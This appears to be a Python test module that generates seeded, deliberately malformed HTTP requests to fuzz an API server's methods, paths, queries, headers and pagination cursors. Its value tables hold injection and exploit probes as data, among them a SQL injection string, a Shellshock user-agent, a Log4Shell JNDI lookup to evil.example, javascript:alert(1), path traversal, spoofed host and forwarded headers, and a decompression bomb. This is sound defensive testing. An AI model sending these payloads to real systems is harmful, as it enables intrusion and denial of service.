"""Hostile requests: number N of a seed is always the same one, but for the ids of the world it speaks of."""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any
from urllib.parse import quote, quote_from_bytes

from app.exchange import Resource
from app.request import METHODS
from app.routes import ROUTES
from tests.hostile.content import NAUGHTY, content
from tests.hostile.estate import CALLERS, Estate
from tests.service import CONTRACT

Maker = Callable[[Random, Estate], str]

UNKNOWN = (
    "FROB",
    "TRACE",
    "CONNECT",
    "get",
    "Post",
    "PROPFIND",
    "QUERY",
    "M-SEARCH",
    "PATCHY",
    "G\u00cbT",
    "_",
)
RUBBISH = (
    *(
        "42",
        "%00",
        "..",
        "%2e%2e",
        "%2F",
        "%5c",
        "%ff",
        "%",
        "%zz",
        "%ED%A0%80",
        "*",
        ";x=y",
        "a b",
        "%0d%0a",
    ),
    *("01930000-0000-4000-8000-000000000000", "01930000-0000-7000-8000-00000000000A", "null", "%F0%9F%92%A9"),
    *("{id}", "a" * 300, "%25", "%250", "-", "--a", "\u0130", "'", "1' OR '1'='1", "%u0041", "[::1]", "@id"),
)
PATH_CHANGES: Sequence[Callable[[str], str]] = (
    lambda path: path + "/",
    lambda path: path.replace("/", "//", 1),
    lambda path: path + ";x=y",
    lambda path: path.upper(),
    lambda path: "/api/.." + path,
    lambda path: path.replace("/", "/./"),
    lambda path: path.replace("/", "%2F"),
    lambda path: path.replace("a", "%61"),
    lambda path: path + "%0A",
    lambda path: path + "%00",
    lambda path: path[1:],
    lambda path: path + "/" + "x" * 9_000,
    lambda path: path + ".json",
    lambda path: "http://127.0.0.1:8000" + path,
    lambda path: path + "#fragment",
    lambda path: path.replace("-", "\u2010"),
    lambda _: "*",
    lambda _: "",
)
TYPES = (
    "application/ld+json",
    "application/json",
    "text/turtle",
    "application/problem+json",
    "*/*",
    "text/html",
)
SENT = ("application/json", "application/ld+json", "application/merge-patch+json")
ALSO_SENT = (*SENT, *TYPES, "text/plain", "multipart/form-data; boundary=x", "application/json-patch+json")
PARAMETERS = ("; charset=utf-8", ";charset=UTF-16", '; profile="x"', ";", " ;q", "/", "; boundary=")
WRONG = {
    "host": (
        "localhost",
        "127.0.0.1",
        "evil.example",
        "",
        "[::1]:80",
        "a b",
        "127.0.0.1:99999",
        "http://x",
        "\xff",
    ),
    "content-length": ("0", "1", "9" * 20, "9" * 5_000, "1048577"),
    "content-type": (*ALSO_SENT, *(kind + parameter for kind in SENT for parameter in PARAMETERS)),
}
CHANGES = ("POST", "PUT", "PATCH")
VARIABLES = ("organization_id", "instance_id", "partner_id", "id", "handle", "file", "type")
IN_PATHS, IN_QUERIES = "%/:;=@[]*#'{}-._~!$&()+,|\\^`\"<>", "%&=[]+;:@/?!$'()*,-._~{}|\\^`\"<>"
BOMB = zlib.compress(b"[" * 10_000_000)
BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_=+/"
NO_NAMES = (
    *RUBBISH,
    "",
    "__class__",
    "name[]",
    "page",
    "order[]",
    "order[name",
    "order[email]",
    "deleted_at",
)
NUMBERS = (
    *("1", "2", "100", "30", "0", "101", "-1", "1e3", "01", "\u0663", "\u00b2", "1.0", " 1", "+1", ""),
    *("0x1", "1_0", "9" * 18, "9" * 19, "9" * 5_000, "1%0A", "NaN", "true", "[1]"),
)
DIRECTIONS = ("asc", "desc", "ASC", "Desc", "up", "", "asc,desc", "\u212aasc", "asc%20", "asc;drop")
TEXTS = (
    *(*RUBBISH, "a", "%25", "_", "acme", "SHOP", "x" * 255, "x" * 256, "x" * 10_000, "\u0130", "%E2%80%AE"),
    *("+", "a%00b", "\\", "%5C%25", "'", "%F0%9F%92%A9" * 200, "%EF%AC%83", "*", "[", "^", "{}"),
)
IN_CURSORS: tuple[Any, ...] = (
    *(
        "name",
        "handle",
        "created_at",
        "id",
        "deleted_at",
        "\0",
        "a\0",
        "",
        "x" * 600,
        "9" * 30,
        "0",
        "\ud800",
    ),
    *("0001-01-01T00:00:00.000000Z", "9999-12-31T23:59:59.999999Z", "2026-01-01", "1e3", "-infinity"),
    *(None, True, False, -1, 1e300, [], {}),
)
# How often each aspect of a request is not as it should be.
ODD = {"method": 0.1, "caller": 0.2, "framing": 0.08, "fields": 0.35, "path": 0.3, "query": 0.35}
DATA = tuple(route for route in ROUTES if "id}" in route.path or len(route.operations) > 1)
JUNK = (
    '"',
    ",",
    ";",
    "=",
    "*",
    "/",
    " ",
    "\t",
    "q=",
    "W/",
    "\\",
    "\xe9",
    "\xff",
    "(",
    ")",
    "<",
    ">",
    "a",
    "0",
    "-",
)


@dataclass(frozen=True)
class Request:
    """`target` and `query` are as sent; `route` is where the target comes from."""

    number: int
    method: str
    target: bytes
    query: bytes
    fields: tuple[tuple[bytes, bytes], ...]
    content: bytes
    caller: str
    route: Resource
    leaves: bool = False

    @property
    def head(self) -> bytes:
        address = self.target + (b"?" + self.query if self.query else b"")
        lines = [b"%s %s HTTP/1.1" % (self.method.encode(), address)]
        return b"\r\n".join([*lines, *(b"%s: %s" % field for field in self.fields), b"", b""])

    def __str__(self) -> str:
        lines = [repr(line)[2:-1] for line in self.head.split(b"\r\n")]
        return "\n".join([f"number {self.number}, as {self.caller}", *lines, repr(self.content)])


def hostile_request(seed: int, number: int, estate: Estate) -> Request:
    """Most aspects of most requests are as they should be: what is wrong at once is refused at once."""
    random = Random(f"{seed} {number}")
    odd = {aspect: random.random() < share for aspect, share in ODD.items()}
    route = random.choice(ROUTES if random.random() < 0.3 else DATA)
    method = _method(random, route, odd=odd["method"])
    caller, authorization = _caller(random, estate, odd=odd["caller"])
    sent = content(random, estate, route.promise) if method in CHANGES or random.random() < 0.03 else b""
    fields = [*_framing(random, method, sent, odd=odd["framing"]), *authorization]
    fields += _fields(random, estate) if odd["fields"] else []
    random.shuffle(fields)
    return Request(
        number=number,
        method=method,
        target=_path(random, route, estate, odd=odd["path"]),
        query=_query(random, route, estate) if odd["query"] else b"",
        fields=tuple((name.encode("latin-1"), _field_value(value)) for name, value in fields),
        content=sent,
        caller=caller,
        route=route,
        leaves=random.random() < 0.005,
    )


def _field_value(value: str) -> bytes:
    """What a server lets through in a field: no control characters."""
    octets = value.encode("latin-1", "replace")
    return bytes(octet for octet in octets if octet == 9 or (octet >= 32 and octet != 127)).strip(b" \t")


def _method(random: Random, route: Resource, *, odd: bool) -> str:
    if odd:
        return random.choice(METHODS if random.random() < 0.6 else UNKNOWN)
    changing = [method for method in route.operations if method != "GET"]
    chosen = random.choice(["GET", "HEAD", *changing, *changing])
    # What is deleted is gone for all that come after it.
    return "GET" if chosen == "DELETE" and random.random() < 0.85 else chosen


def _path(random: Random, route: Resource, estate: Estate, *, odd: bool) -> bytes:
    """Otherwise of what belongs together and is the owner's."""
    path = route.path
    for variable in VARIABLES:
        if f"{{{variable}}}" in path:
            values = estate.values.get(route.promise if variable == "id" else variable, ["42"])
            path = path.replace(f"{{{variable}}}", _value(random, values) if odd else values[0])
    if odd and random.random() < 0.3:
        path = random.choice(PATH_CHANGES)(path)
    # A server lets only visible octets of ASCII through.
    return quote_from_bytes(path.encode("utf-8", "surrogatepass"), safe=IN_PATHS).encode()


def _value(random: Random, values: Sequence[str]) -> str:
    return random.choice(values) if random.random() < 0.8 else random.choice((*RUBBISH, *NAUGHTY[:100]))


def _query(random: Random, route: Resource, estate: Estate) -> bytes:
    definition = CONTRACT.classes.get(CONTRACT.ranges.get(route.promise, route.promise))
    known = [variable.name for variable in definition.variables] if definition else []
    pieces = []
    for _ in range(random.choice((1, 1, 1, 2, 3))):
        name = random.choice(known if known and random.random() < 0.85 else NO_NAMES)
        text = _parameter(random, name, estate)
        pieces.append(f"{random.choice((name, quote(name)))}={text}" if random.random() < 0.97 else name)
    if random.random() < 0.05:
        pieces *= random.choice((2, 80))
    query = random.choice(("&", "&", "&", "&", ";", "&&")).join(pieces)
    return quote_from_bytes(query.encode("utf-8", "surrogatepass"), safe=IN_QUERIES).encode()


def _parameter(random: Random, name: str, estate: Estate) -> str:
    if random.random() < 0.9:
        if name in ("after", "before"):
            return _cursor(random, random.choice(estate.cursors))
        if name in ("page", "itemsPerPage"):
            return random.choice(NUMBERS)
        if name.startswith("order["):
            return random.choice(DIRECTIONS)
    return random.choice(TEXTS) if random.random() < 0.6 else quote(random.choice(NAUGHTY))


def _cursor(random: Random, cursor: str) -> str:
    at = random.randrange(len(cursor))
    if random.random() < 0.4:
        return _rewritten(random, cursor)
    return random.choice(
        (
            cursor,
            cursor,
            "",
            cursor[:at] + random.choice(BASE64) + cursor[at + 1 :],
            cursor[:at],
            cursor + random.choice(BASE64),
            cursor * 2,
            "".join(random.choices(BASE64, k=random.randint(1, 200))),
            cursor + "==",
        )
    )


def _rewritten(random: Random, cursor: str) -> str:
    """By somebody who has seen what is inside: order, direction, value and id."""
    parts = json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))
    values = [*IN_CURSORS, parts[2], parts[3], random.choice(NAUGHTY)]
    for _ in range(random.choice((1, 1, 2))):
        parts[random.randrange(4)] = random.choice(values)
    text = json.dumps(parts).encode()
    if random.random() < 0.3:
        text = random.choice((zlib.compress(text), zlib.compress(text)[:-3], BOMB, text[1:], text + b"]"))
    return base64.urlsafe_b64encode(text).decode().rstrip("=")


def _caller(random: Random, estate: Estate, *, odd: bool) -> tuple[str, list[tuple[str, str]]]:
    draw = random.random()
    if odd and draw < 0.1:
        return "nobody", []
    if odd and draw < 0.25:
        token = random.choice(estate.bad_tokens)
        return "nobody", [("authorization", f"{random.choice(('Bearer', 'bearer', 'Basic', ''))} {token}")]
    if odd and draw < 0.35:
        good = estate.tokens["owner"]
        at = random.randrange(len(good))
        lines = (
            good[:at] + random.choice("Ab.-_ ,") + good[at + 1 :],
            good + " ",
            f"{good},{good}",
            "\t" + good,
        )
        return "owner", [("authorization", "Bearer " + random.choice(lines))] * random.choice((1, 1, 2))
    name = random.choice(tuple(CALLERS)) if odd else "owner"
    return name, [("authorization", f"Bearer {estate.tokens[name]}")]


def _framing(random: Random, method: str, sent: bytes, *, odd: bool) -> list[tuple[str, str]]:
    """Host, and what says what the content is."""
    fields = [("host", "127.0.0.1:8000")]
    if sent or method in CHANGES:
        fields.append(("content-length", str(len(sent))))
        fields.append(("content-type", SENT[2] if method == "PATCH" else random.choice(SENT[:2])))
    if odd:
        at = random.randrange(len(fields))
        name = fields[at][0]
        fields[at : at + 1] = [(name, random.choice(WRONG[name]))] * random.choices((1, 0, 2), (90, 5, 5))[0]
    return fields


def _junk(random: Random, *_: object) -> str:
    if random.random() < 0.02:
        return random.choice(JUNK) * random.choice((1_000, 40_000))
    return "".join(random.choices(JUNK, k=random.randint(0, 20)))


def _list(random: Random, members: Sequence[str]) -> str:
    return random.choice((",", ", ", " , ", ",,")).join(
        random.choices(members, k=random.choice((1, 1, 2, 5, 40)))
    )


def _accept(random: Random, _: Estate) -> str:
    weights = (
        "",
        "",
        ";q=0.5",
        ";q=0",
        "; q=1.000",
        ";q=2",
        ";q=NaN",
        ';profile="http://x"',
        ';q=0.1;x="a,b"',
    )
    return _list(
        random, [kind + random.choice(weights) for kind in (*TYPES, "image/png", "*", "a/", "/b", "text/*")]
    )


def _accept_encoding(random: Random, _: Estate) -> str:
    weights = ("", "", ";q=0", ";q=0.5", ";q=x")
    return _list(
        random,
        [name + random.choice(weights) for name in ("gzip", "zstd", "br", "identity", "*", "x-gzip", "")],
    )


def _tags(random: Random, estate: Estate) -> str:
    tag = random.choice(estate.tags)
    version = tag.partition(".")[0]
    changed = (
        tag,
        tag,
        f"W/{tag}",
        tag.strip('"'),
        f'{version}.0"',
        '"1.0"',
        '"2."',
        tag[:-3],
        f'{tag[:-4]}\xe9"',
        "*",
    )
    return _list(random, changed)


def _preferences(random: Random, _: Estate) -> str:
    known = (
        "return=minimal",
        "return=representation",
        "handling=strict",
        "handling=lenient",
        "respond-async",
    )
    return _list(
        random, (*known, "wait=9999", 'return="minimal"; x=y', "return=", "=", "Return=MINIMAL", "handling")
    )


def _key(random: Random, _: Estate) -> str:
    known = (
        '"k1"',
        '"k2"',
        "k1",
        '"k3";a=b',
        '"\xe9"',
        '""',
        '"' + "k" * 300 + '"',
        "'k'",
        ":aGk=:",
        '("a")',
        '"\\"',
    )
    return random.choice(known)


def _one_of(*values: str) -> Maker:
    return lambda random, _: random.choice(values)


FIELDS: Mapping[str, tuple[float, Maker]] = {
    "accept": (0.4, _accept),
    "accept-encoding": (0.2, _accept_encoding),
    "if-match": (0.15, _tags),
    "if-none-match": (0.12, _tags),
    "if-modified-since": (0.02, _one_of("Thu, 01 Jan 1970 00:00:00 GMT", "yesterday")),
    "if-unmodified-since": (0.02, _one_of("Thu, 01 Jan 2099 00:00:00 GMT", "0")),
    "if-range": (0.02, _tags),
    "range": (0.04, _one_of("bytes=0-1", "bytes=-1", "bytes=9-1", "bytes=" + "0-1," * 500, "items=0-")),
    "prefer": (0.15, _preferences),
    "idempotency-key": (0.12, _key),
    "content-encoding": (0.03, _one_of("gzip", "identity", "br, gzip", "")),
    "content-language": (0.02, _one_of("de", "\xff")),
    "accept-language": (0.03, _one_of("de-DE", "*;q=0", ",")),
    "accept-charset": (0.02, _one_of("utf-16", "*")),
    "accept-profile": (0.02, _one_of("<http://x>", "<")),
    "traceparent": (
        0.06,
        _one_of(f"00-{'a' * 32}-{'b' * 16}-01", f"ff-{'0' * 32}-{'0' * 16}-00", "00-", "x" * 9_000),
    ),
    "tracestate": (0.02, _one_of("a=b", "=" * 600)),
    "origin": (0.08, _one_of("https://evil.example", "null", "")),
    "access-control-request-method": (0.05, _one_of("PATCH", "FROB", "", "*")),
    "access-control-request-headers": (0.03, _one_of("authorization", "*,\xff")),
    "access-control-request-private-network": (0.01, _one_of("true")),
    "expect": (0.03, _one_of("100-continue", "200-ok", "")),
    "cookie": (0.03, _one_of("session=1", "=" * 3_000)),
    "x-http-method-override": (0.03, _one_of("DELETE", "PATCH")),
    "x-forwarded-host": (0.03, _one_of("evil.example", "\xff")),
    "x-forwarded-proto": (0.02, _one_of("https", "gopher")),
    "x-forwarded-prefix": (0.02, _one_of("/evil")),
    "x-original-url": (0.02, _one_of("/api/docs")),
    "forwarded": (0.02, _one_of('for="[::1]";host=evil.example', "for=;;")),
    "x-request-id": (0.02, _one_of("evil", "\xff" * 500)),
    "te": (0.02, _one_of("trailers", "chunked;q=0")),
    "transfer-encoding": (0.01, _one_of("chunked", "gzip, chunked", "identity", "xchunked")),
    "connection": (0.02, _one_of("close", "host, authorization", "upgrade")),
    "upgrade": (0.01, _one_of("h2c", "websocket")),
    "user-agent": (0.02, _one_of("() { :; }; echo", "${jndi:ldap://evil.example/a}")),
    "referer": (0.01, _one_of("javascript:alert(1)")),
    "x-many": (0.003, _one_of("x")),
}


def _fields(random: Random, estate: Estate) -> list[tuple[str, str]]:
    fields = []
    for name, (share, grammar) in FIELDS.items():
        if random.random() >= share:
            continue
        times = 120 if name == "x-many" else random.choices((1, 2, 3), (92, 6, 2))[0]
        make: Maker = _junk if random.random() < 0.12 else grammar
        fields += [(name, make(random, estate)) for _ in range(times)]
    return fields
